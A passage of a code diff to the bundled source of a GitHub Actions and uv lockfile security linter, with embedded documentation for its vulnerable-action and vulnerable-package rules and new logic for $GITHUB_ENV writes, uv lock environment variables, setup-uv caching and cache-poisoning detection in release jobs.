     "vulnerable-action": "# vulnerable-action\n\nDefault severity: **warning**; **error** for a critical or high advisory, **notice** for a low one.\nNeeds the network (GitHub API); silent offline.\n\nAn action version has a known vulnerability (GitHub security advisory).\n\nzizmor id: `known-vulnerable-actions` (its ignore comment `# zizmor: ignore[known-vulnerable-actions]` is honoured).\n\n## What it reports\n\nA `uses:` (steps, composite action steps, reusable-workflow jobs) whose version a reviewed GitHub\nsecurity advisory of the `actions` ecosystem lists as affected, one finding per advisory, naming the\nGHSA id, its severity, summary and link, and the first patched version when GitHub gives one.\n\nThe version is found as zizmor finds it: a SHA pin is the longest tag at that commit (preferring one\nits `# vX` comment names); a symbolic ref is the most specific tag at the commit it resolves to\n(`@v4` → `v4.2.2`). A commit no tag points at, or a branch with no tag at its tip, names no version\nand is not checked.\n\nRequests: one `GET /advisories?ecosystem=actions&affects=<owner/repo>,…` per 50 actions used (which\nof them have any advisory at all), then one `GET /advisories?ecosystem=actions&affects=<owner/repo>@<version>`\nper version used of an action that has advisories (GitHub evaluates the affected ranges). Offline,\nor when GitHub does not answer, nothing is reported and the run log says what could not be checked.\nWithdrawn advisories are left out.\n\n## Why\n\nAn action runs with the job's token and secrets. A version with a published vulnerability (for\nexample `tj-actions/changed-files` before 46.0.1, which leaked secrets into logs) is a known way in.\n\n## How to fix\n\nUpgrade to the first patched version or later, pinned to its commit:\n\n```sh\ngh api repos/tj-actions/changed-files/git/ref/tags/v46.0.1 --jq .object.sha\n```\n\n```yaml\n      - uses: tj-actions/changed-files@<sha> # v46.0.1\n```\n\n## How to ignore\n\nBy advisory id, with a reason and an expiry, in the same `advisories.ignore` list as\n[`vulnerable-package`](vulnerable-package.md) (the finding is then listed as waived; an expired entry\nwaives nothing and is reported):\n\n```yaml\nadvisories:\n  ignore:\n    - id: GHSA-mrrh-fwg8-r2c3\n      reason: the affected input is not used here; upgrade planned\n      until: 2027-01-31\n```\n\nOr on the `uses:` line or the line above it (`# lockgate: ignore[vulnerable-action] reason`), or a\nconfig `ignore:` entry with the rule, the path, a reason and an `until` date.\n\n## Example\n\n```\nerror[vulnerable-action] .github/workflows/ci.yml:9:15\n  tj-actions/changed-files v45.0.0 is affected by GHSA-mrrh-fwg8-r2c3 (high): tj-actions\n  changed-files through 45.0.7 allows remote attackers to discover secrets by reading actions logs.\n  https://github.com/advisories/GHSA-mrrh-fwg8-r2c3\n```\n",
     "vulnerable-package": "# vulnerable-package\n\nDefault severity: **warning**.\n\nAn introduced package version has a known vulnerability (OSV advisory).\n\n## What it reports\n\nA version locked from PyPI that the change introduces (every locked version in a full audit) and\nthat an [OSV](https://osv.dev) advisory other than a malicious-code one lists as affected: a\nPYSEC, GHSA or CVE record, for example. One finding per locked version, at its `[[package]]` line\nin `uv.lock`, naming each advisory with its severity, CVSS score and date, the versions that fix\neach one, and the smallest version that fixes them all.\n\nThe level follows the advisories' severity: the CVSS v3 base score computed from the record's\nvector where it has one (else the database's own label, GitHub's `LOW` to `CRITICAL`). A critical\nadvisory (CVSS 9.0 or more) makes the finding an **error**; advisories that are all low make it a\n**notice**; the rest warn. `rules: { vulnerable-package: error }` raises the ordinary findings to\nerrors. `advisories.min-severity` (`low` by default) leaves out advisories below it; one of unknown\nseverity counts as `medium`.\n\nWhat could not be checked (offline, OSV unreachable) is reported once, by\n[`malicious-package`](malicious-package.md).\n\n## Why\n\nA version with a published vulnerability is a known way in. dependency-review-action blocks them by\ndefault; without this rule a change could lock one and pass the gate. Fixed versions are usually\none `uv lock --upgrade-package` away.\n\n## How to fix\n\nUpgrade to the smallest version the finding names:\n\n```sh\nuv lock --upgrade-package 'examplepkg==2.4.1'\n```\n\nIf a workspace member's own requirement on the package refuses that version (`examplepkg<2.5`\nwhen the fix is 2.5.0), the fix names the member and the requirement to widen first; lockgate reads\nthese from the requirements uv recorded in the lock. Bounds it cannot see there (another package's\nrequirement, `constraint-dependencies`, overrides) or cannot decide exactly (pre-release and post\nrelease bounds) get the general advice: widen them first if they do not allow the fixed version.\nWhen no fix exists yet, replace or remove the package, or accept the risk for a while (below).\n\n## How to ignore\n\nBy advisory id (or one of its aliases, such as the CVE), with a reason and an expiry; an expired\nentry is reported and no longer waives:\n\n```yaml\nadvisories:\n  min-severity: medium\n  ignore:\n    - id: GHSA-aaaa-bbbb-cccc\n      reason: the affected parser is never given untrusted input here; upgrade planned with the 3.0 migration\n      until: 2027-02-28\n```\n\nA waived finding stays in the report's waived list.\n\n## Example\n\n```\nuv.lock:51 warning vulnerable-package: examplepkg 2.4.0 has a known vulnerability: GHSA-aaaa-bbbb-cccc\n(high, CVSS 7.5, 2026-10-02): Denial of service in the header parser. Fixed in:\nGHSA-aaaa-bbbb-cccc: 2.4.1, 1.9.8.\n  fix: Upgrade to 2.4.1, the smallest version that fixes it: `uv lock --upgrade-package examplepkg==2.4.1`\n```\n",
@@ -45527,13 +45555,15 @@ function parseShell(script) {
     let current = [];
     let words = [];
     let redirectsOutput = false;
+    let outputTargets = [];
     let skipCommand = false;
     const endCommand = () => {
-        const command = buildCommand(words, redirectsOutput, skipCommand);
+        const command = buildCommand(words, redirectsOutput, skipCommand, outputTargets);
         if (command)
             current.push(command);
         words = [];
         redirectsOutput = false;
+        outputTargets = [];
         skipCommand = false;
     };
     const endPipeline = () => {
@@ -45558,7 +45588,10 @@ function parseShell(script) {
                 const fd = token.op.match(/^(\d*)/)?.[1] ?? '';
                 if (fd === '' || fd === '1' || token.op.startsWith('&'))
                     redirectsOutput = redirectsOutput || !(target?.kind === 'word' && target.word.value.startsWith('&'));
+                if (target?.kind === 'word' && !target.word.value.startsWith('&'))
+                    outputTargets.push(target.word.value);
             }
+            words.push(token);
             if (tokens[i + 1]?.kind === 'word')
                 i++;
             continue;
@@ -45571,7 +45604,7 @@ function parseShell(script) {
     endPipeline();
     return pipelines;
 }
-function buildCommand(tokens, redirectsOutput, skip) {
+function buildCommand(tokens, redirectsOutput, skip, outputTargets) {
     if (skip)
         return null;
     const wordTokens = tokens.filter((t) => t.kind === 'word');
@@ -45592,10 +45625,11 @@ function buildCommand(tokens, redirectsOutput, skip) {
         words.length = 0;
     while (words.length > 0 && !words[words.length - 1].quoted && KEYWORDS_ALONE.has(words[words.length - 1].value))
         words.pop();
-    if (words.length === 0 && assignments.size === 0 && substitutions.length === 0)
+    if (words.length === 0 && assignments.size === 0 && substitutions.length === 0 && outputTargets.length === 0)
         return null;
-    const offset = words[0]?.offset ?? wordTokens[0]?.word.offset ?? 0;
-    return { words, assignments, offset, substitutions, redirectsOutput };
+    const redirectAt = tokens.find((t) => t.kind === 'redirect');
+    const offset = words[0]?.offset ?? wordTokens[0]?.word.offset ?? (redirectAt?.kind === 'redirect' ? redirectAt.offset : 0);
+    return { words, assignments, offset, substitutions, redirectsOutput, outputTargets };
 }
 function shell_tokenize(script) {
     const tokens = [];
@@ -46102,13 +46136,176 @@ function commandText(rc) {
     const text = [...prefix, ...words].join(' ');
     return text.length > 160 ? `${text.slice(0, 157)}...` : text;
 }
+/** `$GITHUB_ENV`, `${GITHUB_ENV}`, `$env:GITHUB_ENV`, `%GITHUB_ENV%` (cmd), alone as a word (quotes already removed). */
+const ENV_FILE_WORD_RE = /^(?:\$\{?(?:env:)?(GITHUB_ENV|GITHUB_PATH)\}?|%(GITHUB_ENV|GITHUB_PATH)%|\$\{env:(GITHUB_ENV|GITHUB_PATH)\})$/i;
+/** Commands that write to a file named as an argument: `tee`, and PowerShell's file cmdlets (case-insensitive, as PowerShell is). */
+const FILE_WRITERS = new Set(['tee', 'out-file', 'add-content', 'set-content', 'ac', 'sc']);
+function envFileOf(word) {
+    const match = ENV_FILE_WORD_RE.exec(word.trim());
+    const name = match?.[1] ?? match?.[2] ?? match?.[3];
+    return name ? name.toUpperCase() : undefined;
+}
+/**
+ * Every write to $GITHUB_ENV or $GITHUB_PATH in a file's shell `run:` scripts (bash, sh, pwsh, cmd):
+ * an output redirection to it, or `tee` / `Out-File` / `Add-Content` / `Set-Content` given it as a
+ * file. Reading it (`cat "$GITHUB_ENV"`) is not a write.
+ */
+function envFileWrites(wf) {
+    const out = [];
+    for (const rc of runCommands(wf)) {
+        const seen = new Set();
+        for (const target of rc.command.outputTargets) {
+            const file = envFileOf(target);
+            if (file && !seen.has(file)) {
+                seen.add(file);
+                out.push({ rc, file, via: 'redirect' });
+            }
+        }
+        const writer = rc.name.toLowerCase();
+        if (!FILE_WRITERS.has(writer))
+            continue;
+        for (const arg of rc.args) {
+            const file = envFileOf(arg.value.replace(/^-(?:FilePath|Path|LiteralPath):/i, ''));
+            if (file && !seen.has(file)) {
+                seen.add(file);
+                out.push({ rc, file, via: writer === 'tee' ? 'tee' : rc.name });
+            }
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/workflows/uv-lock-env.ts
+/**
+ * Whether UV_LOCKED / UV_FROZEN hold for a `run:` command, as facts: the values set on the command
+ * (`VAR=x cmd`, `export`), in step / job / workflow `env:`, and written to $GITHUB_ENV by an earlier
+ * step. uv-unlocked asks whether any scope states the intent (lockedByEnv); uv-lock-overridden asks
+ * where a nearer scope undoes it (lockOverride). uv reads both variables as clap's "boolish" values
+ * (crates/uv-static/src/lib.rs): y, yes, t, true, on, 1 and n, no, f, false, off, 0; anything else
+ * is an error.
+ */
+
+
+/** uv's boolean environment values (clap's "boolish" parser). */
+const TRUTHY = /^(1|true|yes|y|on|t)$/i;
+function envValue(node, key) {
+    const value = get(node, key);
+    if (value === undefined)
+        return undefined;
+    if ((0,dist/* isScalar */.jn)(value))
+        return value.value === null ? '' : String(value.value);
+    return undefined;
+}
+/**
+ * Whether UV_LOCKED or UV_FROZEN is set truthy for a command: on the command itself, by `export`,
+ * in step / job / workflow `env:`, or written to $GITHUB_ENV by an earlier step of the job. A value
+ * that is an expression counts as set: it states the intent, and its value is unknown here.
+ */
+function lockedByEnv(rc, setByEarlierStep) {
+    const truthy = (value) => value !== undefined && (TRUTHY.test(value.trim()) || value.includes('${{'));
+    for (const key of ['UV_LOCKED', 'UV_FROZEN']) {
+        if (truthy(rc.env.get(key)))
+            return true;
+        if (truthy(envValue(get(rc.step, 'env'), key)))
+            return true;
+        if (truthy(envValue(get(rc.jobNode, 'env'), key)))
+            return true;
+        if (rc.wf.kind === 'workflow' && truthy(envValue(get(rc.wf.doc.contents, 'env'), key)))
+            return true;
+    }
+    return setByEarlierStep(rc);
+}
+const TO_GITHUB_ENV_RE = /\bUV_(?:LOCKED|FROZEN)=["']?(?:1|true|yes|y|on|t)\b[^\n]*>>\s*["']?\$\{?GITHUB_ENV\b/i;
+/**
+ * Whether a step of the same job before this command's step writes UV_LOCKED / UV_FROZEN to
+ * $GITHUB_ENV. The first such step of each job is found once: collecting the earlier steps for every
+ * uv command was quadratic in the steps of a job (8,000 `uv sync` steps: 1.6 s).
+ */
+function earlierStepSetsLock(commands) {
+    let firstSetter = null;
+    return (rc) => {
+        if (firstSetter === null) {
+            firstSetter = new Map();
+            for (const c of commands) {
+                const first = firstSetter.get(c.job);
+                if ((first === undefined || c.stepIndex < first) && TO_GITHUB_ENV_RE.test(stepRunText(c)))
+                    firstSetter.set(c.job, c.stepIndex);
+            }
+        }
+        const first = firstSetter.get(rc.job);
+        return first !== undefined && first < rc.stepIndex;
+    };
+}
+/** A step's `run:` text, read once per step node. */
+const runTextCache = new WeakMap();
+function stepRunText(rc) {
+    const cached = runTextCache.get(rc.step);
+    if (cached !== undefined)
+        return cached;
+    const text = str(get(rc.step, 'run')) ?? '';
+    runTextCache.set(rc.step, text);
+    return text;
+}
+/** uv's false literals; anything neither true nor false makes uv exit with an error. */
+const FALSY = /^(0|false|no|n|off|f)$/i;
+const stated = (value) => value !== null && (TRUTHY.test(value.trim()) || value.includes('${{'));
+function settingOf(key, node, scope, rc) {
+    const valueNode = get(node, key);
+    const value = envValue(node, key);
+    return value === undefined ? undefined : { key, value, scope, line: posOf(rc.wf, valueNode).line };
+}
+/** `unset UV_LOCKED` earlier in the same script, or `env -u UV_LOCKED uv …` on the command itself. */
+function unsetOf(key, rc, commands) {
+    const words = rc.command.words.map((w) => w.value);
+    if (words[0] === 'env') {
+        for (let i = 1; i < words.length && (words[i].startsWith('-') || words[i].includes('=')); i++) {
+            if (((words[i] === '-u' || words[i] === '--unset') && words[i + 1] === key) || words[i] === `--unset=${key}` || words[i] === `-u${key}`)
+                return { key, value: null, scope: 'unset', line: rc.line };
+        }
+    }
+    // An `export` after the `unset` comes back through rc.env, which is read first.
+    const before = commands.slice(0, commands.indexOf(rc)).filter((c) => c.step === rc.step && c.name === 'unset');
+    const last = before.reverse().find((c) => c.args.some((a) => a.value === key));
+    return last ? { key, value: null, scope: 'unset', line: last.line } : undefined;
+}
+/** The settings of one variable a command sees, nearest first (the first is the one uv reads). */
+function lockSettingsOf(key, rc, commands, setByEarlierStep) {
+    const out = [];
+    const onCommand = rc.env.get(key);
+    out.push(onCommand !== undefined ? { key, value: onCommand, scope: 'command', line: rc.line } : unsetOf(key, rc, commands));
+    out.push(settingOf(key, get(rc.step, 'env'), 'step', rc));
+    if (setByEarlierStep(rc))
+        out.push({ key, value: '1', scope: 'github-env' });
+    out.push(settingOf(key, get(rc.jobNode, 'env'), 'job', rc));
+    if (rc.wf.kind === 'workflow')
+        out.push(settingOf(key, get(rc.wf.doc.contents, 'env'), 'workflow', rc));
+    return out.filter((s) => s !== undefined);
+}
+/**
+ * Where a nearer scope undoes a lock a wider one states: UV_LOCKED or UV_FROZEN set true for the
+ * workflow, job or an earlier step, then set false or unset for this command, with neither variable
+ * left true. Undefined when the command runs locked, or when no scope ever asked for a lock (that
+ * is uv-unlocked's case).
+ */
+function lockOverride(rc, commands, setByEarlierStep) {
+    const perKey = ['UV_LOCKED', 'UV_FROZEN'].map((key) => lockSettingsOf(key, rc, commands, setByEarlierStep));
+    if (perKey.some((settings) => settings.length > 0 && stated(settings[0].value)))
+        return undefined;
+    for (const settings of perKey) {
+        const outer = settings.slice(1).find((s) => stated(s.value));
+        const inner = settings[0];
+        // A value uv reads as neither true nor false makes it exit with an error: no silent override.
+        if (outer && inner && (inner.value === null || FALSY.test(inner.value.trim())))
+            return { inner, outer };
+    }
+    return undefined;
+}
 
 ;// CONCATENATED MODULE: ./src/rules/workflows/uv-unlocked.ts
 /**
  * `uv sync`, `uv run` and `uv export` in a workflow without --locked or --frozen (on the command, or
  * UV_LOCKED / UV_FROZEN in its environment): uv may then re-resolve and rewrite uv.lock in CI.
  */
-
 
 
 
@@ -46161,67 +46358,7 @@ const uv_unlocked_rule = defineRule({
         }
     },
 });
-/** uv's boolean environment values (clap's "boolish" parser). */
-const TRUTHY = /^(1|true|yes|y|on|t)$/i;
-function envValue(node, key) {
-    const value = get(node, key);
-    if (value === undefined)
-        return undefined;
-    if ((0,dist/* isScalar */.jn)(value))
-        return value.value === null ? '' : String(value.value);
-    return undefined;
-}
-/**
- * Whether UV_LOCKED or UV_FROZEN is set truthy for a command: on the command itself, by `export`,
- * in step / job / workflow `env:`, or written to $GITHUB_ENV by an earlier step of the job. A value
- * that is an expression counts as set: it states the intent, and its value is unknown here.
- */
-function lockedByEnv(rc, setByEarlierStep) {
-    const truthy = (value) => value !== undefined && (TRUTHY.test(value.trim()) || value.includes('${{'));
-    for (const key of ['UV_LOCKED', 'UV_FROZEN']) {
-        if (truthy(rc.env.get(key)))
-            return true;
-        if (truthy(envValue(get(rc.step, 'env'), key)))
-            return true;
-        if (truthy(envValue(get(rc.jobNode, 'env'), key)))
-            return true;
-        if (rc.wf.kind === 'workflow' && truthy(envValue(get(rc.wf.doc.contents, 'env'), key)))
-            return true;
-    }
-    return setByEarlierStep(rc);
-}
-const TO_GITHUB_ENV_RE = /\bUV_(?:LOCKED|FROZEN)=["']?(?:1|true|yes|y|on|t)\b[^\n]*>>\s*["']?\$\{?GITHUB_ENV\b/i;
-/**
- * Whether a step of the same job before this command's step writes UV_LOCKED / UV_FROZEN to
- * $GITHUB_ENV. The first such step of each job is found once: collecting the earlier steps for every
- * uv command was quadratic in the steps of a job (8,000 `uv sync` steps: 1.6 s).
- */
-function earlierStepSetsLock(commands) {
-    let firstSetter = null;
-    return (rc) => {
-        if (firstSetter === null) {
-            firstSetter = new Map();
-            for (const c of commands) {
-                const first = firstSetter.get(c.job);
-                if ((first === undefined || c.stepIndex < first) && TO_GITHUB_ENV_RE.test(stepRunText(c)))
-                    firstSetter.set(c.job, c.stepIndex);
-            }
-        }
-        const first = firstSetter.get(rc.job);
-        return first !== undefined && first < rc.stepIndex;
-    };
-}
 const LOCK_FLAGS = new Set(['--locked', '--frozen']);
-/** A step's `run:` text, read once per step node. */
-const runTextCache = new WeakMap();
-function stepRunText(rc) {
-    const cached = runTextCache.get(rc.step);
-    if (cached !== undefined)
-        return cached;
-    const text = str(get(rc.step, 'run')) ?? '';
-    runTextCache.set(rc.step, text);
-    return text;
-}
 function insertAfterSubcommand(text, subcommand, flag) {
     const marker = ` ${subcommand}`;
     const at = text.indexOf(marker);
@@ -46428,6 +46565,13 @@ function pipFinding(install) {
         ? 'uv sync --locked   (installs the project and its locked, hashed dependencies), or install hashed requirements first and add --no-deps'
         : `uv export --format requirements-txt --locked -o requirements.txt   (writes hashes), then: ${install.tool} install --require-hashes -r requirements.txt`;
     return { message, fix };
+}
+/**
+ * Whether `pip install <args>` (run by `uv run`, which pip-unhashed leaves to pip-in-uv-run) takes
+ * packages from the index without hashes: the same judgement as this rule's, for that rule's level.
+ */
+function pipArgsUnhashed(args) {
+    return pipFinding(readPipArgs(args, 'uv run pip', false)) !== undefined;
 }
 /** `uvx pkg`, `uv tool run|install pkg`, `pipx install|run pkg`: the tool's version is pinned only by `==` or `@version`. */
 function toolInstallFinding(rc) {
@@ -48878,6 +49022,7 @@ function dependabotUpdates(wf) {
             return { key, pos: posOf(wf, pair.key), days: daysOf((pair.value ?? undefined)) };
         };
         updates.push({
+            entry,
             ecosystem,
             pos: posOf(wf, ecosystemPair.key),
             subject: n === 1 ? base : `${base}#${n}`,
@@ -50921,7 +51066,1440 @@ const typosquat_uses_rule = defineRule({
     },
 });
 
+;// CONCATENATED MODULE: ./src/workflows/setup-uv.ts
+
+
+
+
+function input(withNode, key) {
+    const node = get(withNode, key);
+    const value = str(node);
+    return node && value !== undefined ? { value: value.trim(), node } : undefined;
+}
+/** The major version a `uses:` ref names: `@v7`, `@v7.1.0`, or `@<sha> # v7.1.0`. */
+function majorOf(s, usesNode) {
+    const uses = str(usesNode)?.trim() ?? '';
+    const ref = uses.slice(uses.lastIndexOf('@') + 1);
+    const version = /^[0-9a-f]{40}$/i.test(ref) ? versionFromComment(trailingComment(s.wf, usesNode)) : ref;
+    const match = /^v?(\d+)(?:\.|$)/i.exec(version ?? '');
+    return match ? Number(match[1]) : undefined;
+}
+/** Every `astral-sh/setup-uv` step of a workflow or composite action. */
+function setupUvSteps(wf) {
+    const out = [];
+    for (const s of stepsInContext(wf)) {
+        const usesNode = get(s.step, 'uses');
+        if (!usesNode || !usesAction(str(usesNode), 'astral-sh/setup-uv'))
+            continue;
+        const withNode = get(s.step, 'with');
+        out.push({
+            s,
+            usesNode,
+            major: majorOf(s, usesNode),
+            version: input(withNode, 'version'),
+            versionFile: input(withNode, 'version-file')?.value,
+            enableCache: (() => {
+                const found = input(withNode, 'enable-cache');
+                return found ? { value: found.value.toLowerCase(), node: found.node } : undefined;
+            })(),
+            restoreCache: input(withNode, 'restore-cache')?.value.toLowerCase(),
+            cachePython: input(withNode, 'cache-python'),
+            workingDirectory: input(withNode, 'working-directory')?.value,
+        });
+    }
+    return out;
+}
+/** How setup-uv reads a version specifier (its src/version/specifier.ts): `==` dropped, `latest`, exact semver, else a range. */
+function classifyUvVersion(raw) {
+    const value = raw.trim();
+    if (value.includes('${{'))
+        return { kind: 'unknown' };
+    if (value === 'latest-known')
+        return { kind: 'action-release' };
+    const normalized = value.startsWith('==') ? value.slice(2).trim() : value;
+    if (normalized === 'latest' || normalized === '')
+        return { kind: 'latest', value };
+    // @actions/tool-cache's isExplicitVersion: a valid semver (a leading `v` allowed).
+    if (/^v?\d+\.\d+\.\d+(-[0-9A-Za-z.-]+)?(\+[0-9A-Za-z.-]+)?$/.test(normalized))
+        return { kind: 'exact', value };
+    return { kind: 'range', value };
+}
+/** Whether setup-uv's cache is on for a run of the given event, per its major version's defaults (see the module comment). */
+function cacheOnFor(step, event) {
+    const raw = step.enableCache?.value;
+    if (raw !== undefined && raw.includes('${{'))
+        return 'unknown';
+    if (step.restoreCache === 'false')
+        return false;
+    if (raw === 'true')
+        return true;
+    if (raw !== undefined && raw !== 'auto')
+        return false;
+    const major = step.major;
+    if (major !== undefined && major < 5)
+        return false;
+    if (major !== undefined && major < 10)
+        return true;
+    // v10 and later (and an unknown major: the newest behaviour).
+    if (event.tagPush)
+        return false;
+    return !['release', 'pull_request_target', 'workflow_run'].includes(event.name);
+}
+/** The events a workflow runs on, a push split into its branch and tag runs. A composite action's are unknown. */
+function runEventsOf(wf) {
+    if (wf.kind !== 'workflow')
+        return [{ name: 'unknown', tagPush: false }];
+    return triggersOf(wf).flatMap((t) => {
+        if (t.name !== 'push')
+            return [{ name: t.name, tagPush: false }];
+        const tags = get(t.config, 'tags') !== undefined;
+        const branches = get(t.config, 'branches') !== undefined || get(t.config, 'branches-ignore') !== undefined;
+        if (tags && !branches)
+            return [{ name: 'push', tagPush: true }];
+        if (branches && !tags)
+            return [{ name: 'push', tagPush: false }];
+        // `tags-ignore` alone: every branch push, and tag pushes other than the ignored ones.
+        return [
+            { name: 'push', tagPush: false },
+            { name: 'push', tagPush: true },
+        ];
+    });
+}
+
+;// CONCATENATED MODULE: ./src/workflows/cache-steps.ts
+/**
+ * Cache steps in jobs that publish a release, as facts: zizmor's cache-poisoning scenario. GitHub's
+ * caches are shared across a repository's workflows (a default-branch cache is readable by every
+ * branch), so a cache written by a less trusted run can be restored into a release build.
+ *
+ * A job publishes when its workflow is triggered by `release`, by a tag push (`push.tags`), or by a
+ * push to a branch whose name says "release"; or when it has a known publishing step. A cache step
+ * counts when its caching is on (each action's own input and default; setup-uv's by its major
+ * version and the workflow's events, src/workflows/setup-uv.ts); an input given as an expression
+ * counts only when it is the `startsWith(github.ref, 'refs/tags/')` toggle that turns caching on for
+ * tags, and is not judged otherwise. The rules cache-poisoning and uv-cache-in-publish read these
+ * facts, so one setup-uv line is never reported by both.
+ */
+
+
+
+
+
+
+
+const CACHE_ACTIONS = {
+    'actions/cache': 'always',
+    'actions/cache/restore': 'always',
+    'actions/setup-node': { input: 'cache', onByDefault: false, anyValue: true },
+    'actions/setup-python': { input: 'cache', onByDefault: false, anyValue: true },
+    'actions/setup-java': { input: 'cache', onByDefault: false, anyValue: true },
+    'actions/setup-go': { input: 'cache', onByDefault: (major) => major === undefined || major >= 4 },
+    'actions/setup-dotnet': { input: 'cache', onByDefault: false },
+    // setup-uv's defaults change with its major version and the event: read by its own facts (setup-uv.ts).
+    'astral-sh/setup-uv': { input: 'enable-cache', onByDefault: false },
+    'swatinem/rust-cache': { input: 'lookup-only', onByDefault: true, inverted: true },
+    'ruby/setup-ruby': { input: 'bundler-cache', onByDefault: false },
+    'actions-rust-lang/setup-rust-toolchain': { input: 'cache', onByDefault: true },
+    'gradle/actions/setup-gradle': { input: 'cache-disabled', onByDefault: true, inverted: true },
+    'graalvm/setup-graalvm': { input: 'cache', onByDefault: false, anyValue: true },
+    'mlugg/setup-zig': { input: 'use-cache', onByDefault: true },
+    'jdx/mise-action': { input: 'cache', onByDefault: true },
+    'prefix-dev/setup-pixi': { input: 'cache', onByDefault: false },
+    'mozilla-actions/sccache-action': 'always',
+    'determinatesystems/magic-nix-cache-action': 'always',
+};
+/** Steps that publish a release or a package. */
+const PUBLISHER_ACTIONS = new Set([
+    'pypa/gh-action-pypi-publish',
+    'softprops/action-gh-release',
+    'goreleaser/goreleaser-action',
+    'rubygems/release-gem',
+    'ncipollo/release-action',
+    'svenstaro/upload-release-action',
+    'js-devtools/npm-publish',
+    'katyo/publish-crates',
+    'changesets/action',
+    'docker/build-push-action',
+]);
+const TAG_TOGGLE_RE = /startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/?'\s*\)|github\.ref_type\s*==\s*'tag'/i;
+const NOT_TAG_TOGGLE_RE = /!\s*startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/?'\s*\)|github\.ref_type\s*!=\s*'tag'/i;
+/** Why the workflow as a whole publishes, from its triggers; undefined when it does not. */
+function publishingTrigger(triggers) {
+    for (const trigger of triggers) {
+        if (trigger.name === 'release')
+            return 'is triggered by release';
+        if (trigger.name !== 'push')
+            continue;
+        if (get(trigger.config, 'tags') !== undefined)
+            return 'runs on tag pushes';
+        const branches = items(get(trigger.config, 'branches')).map((b) => str(b) ?? '');
+        const release = branches.find((b) => /release/i.test(b));
+        if (release)
+            return `runs on pushes to ${release}`;
+    }
+    return undefined;
+}
+function actionOf(uses) {
+    if (!uses)
+        return undefined;
+    const parsed = parseUses(uses.trim());
+    if (parsed.kind !== 'repository')
+        return undefined;
+    const name = `${parsed.owner}/${parsed.repo}${parsed.path ? `/${parsed.path}` : ''}`.toLowerCase();
+    const major = parsed.pinned ? undefined : /^v?(\d+)/.exec(parsed.ref)?.[1];
+    return { name, major: major === undefined ? undefined : Number(major) };
+}
+/** Whether a cache step restores a cache: 'on', 'off', or 'unknown' (an expression we cannot read). */
+function cachingOf(s, name, major) {
+    if (name === 'astral-sh/setup-uv')
+        return setupUvCaching(s);
+    const spec = CACHE_ACTIONS[name];
+    if (spec === undefined)
+        return { state: 'off' };
+    if (spec === 'always')
+        return { state: 'on' };
+    const valueNode = get(get(s.step, 'with'), spec.input);
+    const raw = (0,dist/* isScalar */.jn)(valueNode) ? String(valueNode.value ?? '').trim() : undefined;
+    if (raw === undefined || raw === '') {
+        const on = typeof spec.onByDefault === 'function' ? spec.onByDefault(major) : spec.onByDefault;
+        return { state: on ? 'on' : 'off' };
+    }
+    if (hasExpression(raw)) {
+        if (NOT_TAG_TOGGLE_RE.test(raw))
+            return { state: spec.inverted ? 'on' : 'off', input: valueNode };
+        if (TAG_TOGGLE_RE.test(raw))
+            return { state: spec.inverted ? 'off' : 'on', input: valueNode };
+        return { state: 'unknown' };
+    }
+    const lower = raw.toLowerCase();
+    const truthy = spec.anyValue ? lower !== 'false' : lower === 'true' || lower === 'auto';
+    return { state: truthy !== !!spec.inverted ? 'on' : 'off', input: valueNode };
+}
+/** Every cache step with caching on in a job that publishes (workflows only: a composite action has no triggers). */
+function publishingCacheSteps(wf) {
+    if (wf.kind !== 'workflow')
+        return [];
+    const byTrigger = publishingTrigger(triggersOf(wf));
+    const steps = stepsInContext(wf);
+    const publisherIn = new Map();
+    for (const s of steps) {
+        const action = actionOf(str(get(s.step, 'uses')));
+        if (action && PUBLISHER_ACTIONS.has(action.name) && !publisherIn.has(s.jobId))
+            publisherIn.set(s.jobId, action.name);
+    }
+    const out = [];
+    for (const s of steps) {
+        const usesNode = get(s.step, 'uses');
+        const action = actionOf(str(usesNode));
+        if (!usesNode || !action || !(action.name in CACHE_ACTIONS))
+            continue;
+        const why = byTrigger ? `its workflow ${byTrigger}` : publisherIn.has(s.jobId) ? `it publishes with ${publisherIn.get(s.jobId)}` : undefined;
+        if (!why)
+            continue;
+        const major = action.major ?? majorFromComment(s, usesNode);
+        const caching = cachingOf(s, action.name, major);
+        if (caching.state !== 'on')
+            continue;
+        out.push({ s, action: action.name, why, node: caching.input ?? usesNode });
+    }
+    return out;
+}
+/** setup-uv's cache: on when its own defaults turn it on for any event the workflow runs on. */
+function setupUvCaching(s) {
+    const step = setupUvSteps(s.wf).find((candidate) => candidate.s.step === s.step);
+    if (!step)
+        return { state: 'off' };
+    const states = runEventsOf(s.wf).map((event) => cacheOnFor(step, event));
+    const state = states.includes(true) ? 'on' : states.includes('unknown') ? 'unknown' : 'off';
+    return { state, input: step.enableCache?.node };
+}
+function majorFromComment(s, usesNode) {
+    if (!usesNode)
+        return undefined;
+    const version = versionFromComment(trailingComment(s.wf, usesNode));
+    const major = version ? /^v?(\d+)/.exec(version)?.[1] : undefined;
+    return major === undefined ? undefined : Number(major);
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/cache-poisoning.ts
+/**
+ * zizmor's cache-poisoning: a job that publishes a release restores a cache. GitHub's caches are
+ * shared across a repository's workflows (a default-branch cache is readable by every branch), so a
+ * cache written by a less trusted run (a pull request's workflow, a compromised dependency in an
+ * ordinary CI job) can be restored into the release build and end up in the published artifact.
+ *
+ * A job publishes when its workflow is triggered by `release`, by a tag push (`push.tags`), or by a
+ * push to a branch whose name says "release"; or when it has a known publishing step. A cache step
+ * counts when its caching is on (each action's own input and default); an input given as an
+ * expression counts only when it is the `startsWith(github.ref, 'refs/tags/')` toggle that turns
+ * caching on for tags, and is not judged otherwise. Low confidence, as in zizmor: whether the cache
+ * can be poisoned depends on the repository's other workflows.
+ */
+
+
+
+
+const cache_poisoning_rule = defineRule({
+    meta: {
+        id: 'cache-poisoning',
+        defaultSeverity: 'warning',
+        defaultConfidence: 'low',
+        summary: 'A job that publishes a release restores a cache another workflow may have poisoned.',
+        on: 'workflows',
+    },
+    check(ctx, report) {
+        for (const wf of ctx.workflows) {
+            for (const found of publishingCacheSteps(wf)) {
+                const pos = posOf(wf, found.node);
+                const spec = CACHE_ACTIONS[found.action];
+                const off = spec === undefined || spec === 'always'
+                    ? `remove the ${found.action} step from this job`
+                    : `set ${spec.input}: ${spec.inverted ? 'true' : 'false'} on this step`;
+                report({
+                    file: wf.file,
+                    line: pos.line,
+                    column: pos.column,
+                    message: `${found.action} restores a cache in job ${found.s.jobId}, which publishes (${found.why}): caches are shared across the repository's workflows, ` +
